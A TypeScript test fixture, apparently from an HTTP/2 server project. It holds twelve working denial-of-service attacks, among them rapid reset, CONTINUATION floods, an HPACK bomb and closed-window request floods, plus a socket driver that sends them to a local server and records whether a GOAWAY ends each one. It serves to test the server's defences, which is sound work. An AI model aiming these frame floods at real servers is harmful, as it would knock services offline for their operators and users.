/**
 * Twelve attacks on HTTP/2, sent over a socket by a client that does nothing else: what their CVEs describe, from rapid
 * reset to answers behind a closed window. Against any server in the clear; what ended it, and after how many frames, is told.
 */
import net from 'node:net';
import * as frame from '#src/protocol/h2/frames.ts';
import {
  blockOf,
  type Fields,
  frameOf,
  joined,
  settingsOf,
  uint32,
  windowUpdateOf,
} from '#src/protocol/h2/server/core.fixture.ts';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const FRAMES = 20_000;
const BATCH = 50;
const END_ALL = frame.FLAG_END_HEADERS | frame.FLAG_END_STREAM;

export interface Attack {
  readonly name: string;
  /** The codes of GOAWAY that are right. */
  readonly codes: readonly number[];
  /** Of the client. */
  readonly settings?: readonly number[];
  /** A path that is answered later than the frames behind it come, or never. */
  readonly path?: string;
  readonly before?: (target: Target) => Uint8Array;
  readonly frames: (n: number, target: Target) => Uint8Array;
  readonly count?: number;
}

export interface Target {
  readonly port: number;
  /** Answers to it come late, and those to `hung` never, so that streams stay open. */
  readonly late: string;
  readonly hung: string;
}

export interface Outcome {
  /** Infinity when the server did not end it. */
  readonly frames: number;
  /** Of GOAWAY; undefined where none came. */
  readonly code: number | undefined;
}

const fieldsOf = (method: string, path: string): Fields => [
  [':method', method],
  [':scheme', 'http'],
  [':path', path],
  [':authority', 'a'],
];
const headers = (id: number, block: Uint8Array, flags = END_ALL): Uint8Array =>
  frameOf(frame.FRAME_HEADERS, flags, id, block);
const get = (n: number, path: string): Uint8Array => headers(2 * n + 1, blockOf(fieldsOf('GET', path)));
const CALM = 0xb;
const PROTOCOL = 0x1;
const FLOW = 0x3;
const openUpload = ({ hung }: Target): Uint8Array =>
  headers(1, blockOf(fieldsOf('POST', hung)), frame.FLAG_END_HEADERS);
const openBlock = ({ hung }: Target): Uint8Array => headers(1, blockOf(fieldsOf('GET', hung)), 0);
const MANY_FIELDS = blockOf(Array.from({ length: 40 }, (_, n) => [`x-${n}`, 'y'.repeat(40)] as const));

export const ATTACKS: readonly Attack[] = [
  {
    name: 'rapid reset',
    codes: [CALM],
    frames: (n, { late }) => joined(get(n, late), frameOf(frame.FRAME_RST_STREAM, 0, 2 * n + 1, uint32(8))),
  },
  {
    name: 'made you reset, by WINDOW_UPDATE of 0',
    codes: [CALM, PROTOCOL],
    frames: (n, { late }) => joined(get(n, late), windowUpdateOf(2 * n + 1, 0)),
  },
  {
    name: 'made you reset, by a window that overflows',
    codes: [CALM, FLOW],
    frames: (n, { late }) => joined(get(n, late), windowUpdateOf(2 * n + 1, 2 ** 31 - 1)),
  },
  {
    name: 'CONTINUATION with fields',
    codes: [CALM],
    before: openBlock,
    frames: () => frameOf(frame.FRAME_CONTINUATION, 0, 1, MANY_FIELDS),
  },
  {
    name: 'empty CONTINUATION',
    codes: [CALM],
    before: openBlock,
    frames: () => frameOf(frame.FRAME_CONTINUATION, 0, 1),
  },
  {
    name: 'SETTINGS',
    codes: [CALM],
    frames: (n) => settingsOf(frame.SETTINGS_INITIAL_WINDOW_SIZE, n),
  },
  {
    name: 'PING',
    codes: [CALM],
    frames: () => frameOf(frame.FRAME_PING, 0, 0, new Uint8Array(8)),
  },
  {
    name: 'empty DATA',
    codes: [CALM],
    before: openUpload,
    frames: () => frameOf(frame.FRAME_DATA, 0, 1),
  },
  {
    name: 'DATA of one byte that nobody reads',
    codes: [CALM],
    before: openUpload,
    frames: () => frameOf(frame.FRAME_DATA, 0, 1, Uint8Array.of(0)),
  },
  {
    name: 'PRIORITY churn',
    codes: [CALM],
    frames: (n) => frameOf(frame.FRAME_PRIORITY, 0, 2 * n + 1, joined(uint32(0), Uint8Array.of(n))),
  },
  {
    name: 'an HPACK bomb behind a closed window',
    codes: [CALM],
    settings: [frame.SETTINGS_INITIAL_WINDOW_SIZE, 0],
    // An entry of nearly 4 KiB, and then 15,000 references of one byte.
    before: ({ late }) =>
      headers(
        1,
        joined(
          blockOf(fieldsOf('GET', late)),
          Uint8Array.of(0x40, 1, 0x61, 0x7f, 0xa1, 0x1e),
          new Uint8Array(4000).fill(0x62),
        ),
      ),
    frames: (n, { late }) =>
      headers(2 * n + 3, joined(blockOf(fieldsOf('GET', late)), new Uint8Array(15_000).fill(0x80 | 62))),
    count: 100,
  },
  {
    name: 'requests behind a closed window',
    codes: [CALM],
    settings: [frame.SETTINGS_INITIAL_WINDOW_SIZE, 0],
    frames: (n) => get(n, '/'),
    count: 100,
  },
];

/** @param waitMs for the end, when all frames have been sent */
export async function attack(
  target: Target,
  { settings, before, frames, count = FRAMES }: Attack,
  waitMs: number,
) {
  const socket = net.connect(target.port, '127.0.0.1');
  let isClosed = false;
  let code: number | undefined;
  let rest: Uint8Array = new Uint8Array(0);
  let onEnd: () => void = () => {};
  const ended = new Promise<void>((resolve) => {
    onEnd = resolve;
  });
  socket.on('error', () => {});
  socket.on('close', () => {
    isClosed = true;
    onEnd();
  });
  socket.on('data', (bytes: Buffer) => {
    rest = joined(rest, bytes);
    for (;;) {
      const length = rest.length < 9 ? 0 : (rest[0]! << 16) | (rest[1]! << 8) | rest[2]!;
      if (rest.length < 9 || rest.length < 9 + length) return;
      if (rest[3] === frame.FRAME_GOAWAY && code === undefined) code = frame.readUint32(rest, 13);
      rest = rest.slice(9 + length);
      if (code !== undefined) onEnd();
    }
  });
  socket.write(
    joined(PREFACE, settingsOf(...(settings ?? [])), frameOf(frame.FRAME_SETTINGS, frame.FLAG_ACK, 0)),
  );
  if (before !== undefined) socket.write(before(target));
  let sent = 0;
  const isOver = (): boolean => isClosed || code !== undefined;
  // The server has time to read each batch. It may lag behind all the same: a PING would tell, and be an attack of its own.
  for (; sent < count && !isOver(); sent += BATCH) {
    const batch = Array.from({ length: Math.min(BATCH, count - sent) }, (_, at) => frames(sent + at, target));
    await new Promise<void>((resolve) => socket.write(joined(...batch), () => resolve()));
    await new Promise((resolve) => setTimeout(resolve, 2));
  }
  if (!isOver()) await Promise.race([ended, new Promise((resolve) => setTimeout(resolve, waitMs).unref())]);
  const outcome: Outcome = { frames: isOver() ? sent : Number.POSITIVE_INFINITY, code };
  socket.destroy();
  return outcome;
}
